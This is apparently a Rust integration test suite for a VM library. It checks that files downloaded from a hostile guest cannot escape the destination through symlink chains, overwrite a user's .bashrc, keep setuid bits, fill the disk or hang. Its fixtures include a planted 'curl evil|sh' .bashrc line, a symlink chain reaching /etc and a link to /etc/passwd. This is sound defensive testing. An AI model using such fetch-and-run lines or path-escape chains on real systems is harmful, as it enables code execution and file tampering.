//! Downloads from a hostile guest (real VMs): guest code builds what the issue describes and
//! the host must never create, follow or change anything outside the destination, must not
//! take the guest's setuid bits, must not fill its disk and must not hang. Listings a real
//! agent cannot produce (duplicates, `..`, a directory at a symlink's path, lying sizes) are
//! covered by the unit tests of `files::plan` and `files::local`.

mod common;

use std::collections::BTreeSet;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use smolvm::files::DownloadOptions;
use smolvm::{Error, TransferRule};

fn scratch(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("smolvm-hostile-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Every path under `dir` (symlinks not followed).
fn all_paths(dir: &Path) -> BTreeSet<PathBuf> {
    let mut out = BTreeSet::new();
    let mut pending = vec![dir.to_path_buf()];
    while let Some(at) = pending.pop() {
        for entry in std::fs::read_dir(&at).unwrap().flatten() {
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                pending.push(path.clone());
            }
            out.insert(path);
        }
    }
    out
}

fn rule_of(err: &Error) -> Option<TransferRule> {
    match err {
        Error::Transfer { rule, .. } => Some(*rule),
        _ => None,
    }
}

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path)
        .unwrap()
        .permissions()
        .mode()
        & 0o7777
}

/// The chain, built by guest code in `/out`.
const CHAIN: &str = "rm -rf /out && mkdir -p /out/d && cd /out && ln -s .. d/l && ln -s d/l/.. u1 \
     && for i in $(seq 2 16); do ln -s u$((i-1))/.. u$i; done && ln -s u16/etc etc \
     && echo data > file";

#[test]
fn trees_never_escape_merge_or_keep_setuid() {
    let vm = common::vm();
    let dir = scratch("tree");
    let before = all_paths(&dir);

    // 1. The symlink chain of the issue: refused, nothing written anywhere.
    vm.run(CHAIN).unwrap();
    assert_eq!(vm.run("readlink /out/u16").unwrap().output(), "u15/..");
    let dest = dir.join("out");
    let err = vm.download_dir("/out", &dest).unwrap_err();
    assert_eq!(rule_of(&err), Some(TransferRule::UnsafeTree), "{err}");
    // The guest lists `etc` before `u1`: either is the first escaping entry met.
    let message = err.to_string();
    assert!(
        message.contains("refusing entry \"etc\"") || message.contains("refusing entry \"u1\""),
        "names the entry: {message}"
    );
    assert_eq!(
        all_paths(&dir),
        before,
        "nothing created beside the destination"
    );

    // 2. A tree with links that stay inside: every link of the result resolves inside it.
    vm.run(
        "rm -rf /ok && mkdir -p /ok/d/e && cd /ok && ln -s .. d/l && ln -s d/l/d/e x \
         && ln -s ../../d d/e/back && echo hi > d/e/f && ln -s nowhere dangling",
    )
    .unwrap();
    let ok = vm
        .download_dir_with("/ok", &dest, &DownloadOptions::default())
        .unwrap();
    let root = dest.canonicalize().unwrap();
    assert_eq!(ok, root);
    for path in all_paths(&dest) {
        if std::fs::symlink_metadata(&path)
            .unwrap()
            .file_type()
            .is_symlink()
        {
            if let Ok(resolved) = path.canonicalize() {
                assert!(resolved.starts_with(&root), "{path:?} -> {resolved:?}");
            }
        }
    }
    assert_eq!(std::fs::read(dest.join("x/f")).unwrap(), b"hi\n");

    // 3. Into an existing non-empty folder: refused before anything is fetched, the
    // `.bashrc` untouched; `overwrite` replaces the folder (nothing merged).
    let home = dir.join("home");
    std::fs::create_dir(&home).unwrap();
    std::fs::write(home.join(".bashrc"), b"mine\n").unwrap();
    vm.run("rm -rf /evil && mkdir /evil && echo 'curl evil|sh' > /evil/.bashrc")
        .unwrap();
    let err = vm.download_dir("/evil", &home).unwrap_err();
    assert_eq!(
        rule_of(&err),
        Some(TransferRule::DestinationNotEmpty),
        "{err}"
    );
    assert!(err.to_string().contains("overwrite"), "says the fix: {err}");
    assert_eq!(std::fs::read(home.join(".bashrc")).unwrap(), b"mine\n");
    // From inside the folder, as `download_dir("/out", ".")` run from $HOME would be.
    let err = vm.download_dir("/evil", &home.join(".")).unwrap_err();
    assert_eq!(
        rule_of(&err),
        Some(TransferRule::DestinationNotEmpty),
        "{err}"
    );
    assert_eq!(std::fs::read(home.join(".bashrc")).unwrap(), b"mine\n");
    let overwrite = DownloadOptions {
        overwrite: true,
        ..DownloadOptions::default()
    };
    std::fs::write(home.join("only-here"), b"x").unwrap();
    vm.download_dir_with("/evil", &home, &overwrite).unwrap();
    assert_eq!(
        std::fs::read(home.join(".bashrc")).unwrap(),
        b"curl evil|sh\n"
    );
    assert!(!home.join("only-here").exists(), "replaced, not merged");

    // 4. Setuid/setgid/sticky bits are dropped unless asked for; a read-only folder does
    // not block its own content.
    vm.run(
        "rm -rf /s && mkdir -p /s/ro /s/tmp && cp /bin/true /s/suid && chmod 6755 /s/suid \
         && echo x > /s/ro/f && chmod 555 /s/ro && chmod 1777 /s/tmp",
    )
    .unwrap();
    let file = vm.download_file("/s/suid", &dir.join("suid")).unwrap();
    assert_eq!(mode(&file), 0o755);
    let kept = DownloadOptions {
        keep_special_bits: true,
        ..DownloadOptions::default()
    };
    let file = vm
        .download_file_with("/s/suid", &dir.join("suid-kept"), &kept)
        .unwrap();
    assert_eq!(mode(&file), 0o6755);
    // A symlink at a file download's destination is replaced, never written through.
    let victim = dir.join("victim");
    std::fs::write(&victim, b"victim\n").unwrap();
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::os::unix::fs::symlink(&victim, dir.join("via-link")).unwrap();
    let file = vm.download_file("/s/suid", &dir.join("via-link")).unwrap();
    assert!(std::fs::symlink_metadata(&file).unwrap().is_file());
    assert_eq!(std::fs::read(&victim).unwrap(), b"victim\n");
    assert_eq!(mode(&victim), 0o600);
    let tree = dir.join("s");
    vm.download_dir("/s", &tree).unwrap();
    assert_eq!(mode(&tree.join("suid")), 0o755);
    assert_eq!(mode(&tree.join("tmp")), 0o777);
    assert_eq!(mode(&tree.join("ro")), 0o555);
    assert_eq!(std::fs::read(tree.join("ro/f")).unwrap(), b"x\n");
    std::fs::set_permissions(tree.join("ro"), std::fs::Permissions::from_mode(0o755)).unwrap();

    // 5. Uploads refuse local symlinks that leave the folder, before sending anything.
    let src = dir.join("src");
    std::fs::create_dir_all(src.join("sub")).unwrap();
    std::fs::write(src.join("sub/f"), b"f").unwrap();
    std::os::unix::fs::symlink("sub/f", src.join("inside")).unwrap();
    std::os::unix::fs::symlink("..", src.join("sub/up")).unwrap();
    std::os::unix::fs::symlink("sub/up/../../secret", src.join("escape")).unwrap();
    let err = vm.upload_dir(&src, "/up").unwrap_err();
    assert_eq!(rule_of(&err), Some(TransferRule::UnsafeUpload), "{err}");
    assert!(err.to_string().contains("escape"), "names the link: {err}");
    assert_eq!(
        vm.run("test -e /up || echo absent").unwrap().output(),
        "absent"
    );
    std::fs::remove_file(src.join("escape")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", src.join("absolute")).unwrap();
    assert!(vm.upload_dir(&src, "/up").is_err());
    std::fs::remove_file(src.join("absolute")).unwrap();
    vm.upload_dir(&src, "/up").unwrap();
    assert_eq!(
        vm.run("cat /up/inside /up/sub/up/sub/f").unwrap().output(),
        "ff"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_sparse_terabyte_is_refused_at_once_and_a_stalled_guest_times_out() {
    let vm = common::vm();
    let dir = scratch("caps");
    vm.run("mkdir -p /big && truncate -s 1T /big/huge && echo small > /big/small && mkfifo /fifo")
        .unwrap();

    let started = Instant::now();
    let err = vm
        .download_file("/big/huge", &dir.join("huge"))
        .unwrap_err();
    assert_eq!(rule_of(&err), Some(TransferRule::NoSpace), "{err}");
    assert!(err.to_string().contains("1099511627776"), "{err}");
    let err = vm.download_dir("/big", &dir.join("big")).unwrap_err();
    assert_eq!(rule_of(&err), Some(TransferRule::NoSpace), "{err}");
    let err = vm
        .download_file_with(
            "/big/small",
            &dir.join("small"),
            &DownloadOptions {
                max_bytes: Some(3),
                ..DownloadOptions::default()
            },
        )
        .unwrap_err();
    assert_eq!(rule_of(&err), Some(TransferRule::TooLarge), "{err}");
    let err = vm.read_file("/big/huge").unwrap_err();
    assert_eq!(rule_of(&err), Some(TransferRule::TooLarge), "{err}");
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "refused in {:?}",
        started.elapsed()
    );
    assert_eq!(
        std::fs::read_dir(&dir).unwrap().count(),
        0,
        "nothing left behind"
    );
    // The cancelled reads stopped: the channel serves the next request at once.
    assert_eq!(vm.run("echo alive").unwrap().output(), "alive");

    // A guest file that sends more than the listing announced (a procfs file is listed
    // with size 0): cut off, the whole download refused, nothing left behind.
    assert!(vm
        .run(
            "mkdir -p /lie && echo pad > /lie/a && touch /lie/hostname \
             && mount --bind /proc/sys/kernel/hostname /lie/hostname"
        )
        .unwrap()
        .ok());
    let err = vm.download_dir("/lie", &dir.join("lie")).unwrap_err();
    assert_eq!(rule_of(&err), Some(TransferRule::TooLarge), "{err}");
    assert!(err.to_string().contains("listing announced"), "{err}");
    assert_eq!(std::fs::read_dir(&dir).unwrap().count(), 0);

    // A guest that never sends (a FIFO nobody writes) hits the idle timeout.
    let started = Instant::now();
    let err = vm
        .download_file_with(
            "/fifo",
            &dir.join("fifo"),
            &DownloadOptions {
                idle_timeout: Duration::from_secs(2),
                ..DownloadOptions::default()
            },
        )
        .unwrap_err();
    assert_eq!(rule_of(&err), Some(TransferRule::Stalled), "{err}");
    assert!(started.elapsed() < Duration::from_secs(10));
    assert_eq!(std::fs::read_dir(&dir).unwrap().count(), 0);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_tree_of_150k_entries_is_listed_without_hanging() {
    let vm = common::vm();
    vm.run_with(
        // tmpfs: creating 150k files on the emulated disk takes minutes under TCG.
        "mkdir -p /many && mount -t tmpfs -o nr_inodes=200000 tmpfs /many && cd /many \
         && seq -f 'entry-with-a-longish-name-%06g' 150000 | xargs touch",
        &smolvm::RunOptions {
            timeout: Some(Duration::from_secs(300)),
            ..smolvm::RunOptions::default()
        },
    )
    .unwrap()
    .ok()
    .then_some(())
    .expect("the guest made the tree");
    let started = Instant::now();
    let entries = vm.list_tree("/many").unwrap();
    assert_eq!(entries.len(), 150_000);
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "listed in {:?}",
        started.elapsed()
    );
    // Over the cap: refused (and the walk cancelled), not hung.
    let err = vm
        .download_dir_with(
            "/many",
            &std::env::temp_dir().join(format!("smolvm-many-{}", std::process::id())),
            &DownloadOptions {
                max_entries: 1000,
                ..DownloadOptions::default()
            },
        )
        .unwrap_err();
    assert_eq!(rule_of(&err), Some(TransferRule::TooLarge), "{err}");
    assert_eq!(vm.run("echo alive").unwrap().output(), "alive");
}
